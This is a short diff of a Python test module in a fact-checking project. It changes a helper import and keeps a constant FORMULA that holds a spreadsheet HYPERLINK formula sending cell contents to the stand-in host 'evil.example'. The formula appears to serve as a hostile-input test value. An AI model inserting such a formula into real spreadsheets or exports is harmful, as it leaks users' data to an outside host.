@@ -12,7 +12,7 @@ from factcheck.errors import BadInputError
 
 from factcheck.report.run import run_report
 from factcheck.settings import Settings
-from tests.test_hostile_input import claims_csv, run_main  # noqa: F401 - a fixture
+from tests.helpers import run_main
 
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"click")'
 
